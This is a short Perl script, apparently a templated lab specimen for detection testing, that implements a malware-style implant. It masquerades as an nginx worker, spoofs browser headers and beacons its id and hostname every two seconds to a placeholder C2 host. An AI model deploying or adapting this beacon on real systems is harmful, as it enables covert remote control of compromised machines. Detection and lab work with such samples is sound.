#!/usr/bin/perl
# kcsi lab specimen: a Perl implant dressed as an nginx worker. Sets its title to
# '@@TITLE@@' and beacons over HTTP (keep-alive, plain text on port @@C2_PORT@@) to @@C2@@
# (127.x): a POST with its id and status every 2 s; reconnects when dropped.
use strict;
use warnings;
use IO::Socket::INET;
use Sys::Hostname;

$0 = '@@TITLE@@';
$SIG{PIPE} = 'IGNORE';
my $id = '@@BOT_ID@@';
my $n = 0;
while (1) {
    my $s = IO::Socket::INET->new(PeerAddr => '@@C2@@', Proto => 'tcp', Timeout => 5);
    if (!$s) { sleep 3; next; }
    while (1) {
        my $body = "id=$id&h=" . hostname() . "&n=" . $n++ . "&st=idle";
        print $s "POST @@C2_PATH@@ HTTP/1.1\r\nHost: @@C2@@\r\nUser-Agent: Mozilla/5.0 (Windows NT 10.0; Win64; x64)\r\n"
               . "Cookie: PHPSESSID=$id\r\nContent-Type: application/x-www-form-urlencoded\r\n"
               . "Content-Length: " . length($body) . "\r\nConnection: keep-alive\r\n\r\n$body" or last;
        my ($len, $line) = (0);
        while (defined($line = <$s>)) {
            $len = $1 if $line =~ /^Content-Length:\s*(\d+)/i;
            last if $line eq "\r\n";
        }
        last unless defined $line;
        read($s, my $task, $len) if $len;
        sleep 2;
    }
    close $s;
    sleep 3;
}
